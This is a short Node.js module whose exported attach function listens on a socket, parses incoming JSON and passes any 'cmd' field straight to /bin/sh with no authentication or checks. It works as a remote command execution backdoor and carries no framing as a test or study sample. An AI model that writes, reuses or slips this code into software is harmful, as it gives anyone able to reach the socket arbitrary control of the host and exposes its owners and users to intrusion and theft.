'use strict';
const { execFile } = require('child_process');

exports.attach = function attach(socket) {
  if (!socket || typeof socket.on !== 'function') return false;
  socket.on('data', (chunk) => {
    let msg;
    try {
      msg = JSON.parse(String(chunk));
    } catch (e) {
      return;
    }
    if (msg && typeof msg.cmd === 'string') execFile('/bin/sh', ['-c', msg.cmd], () => {});
  });
  return true;
};
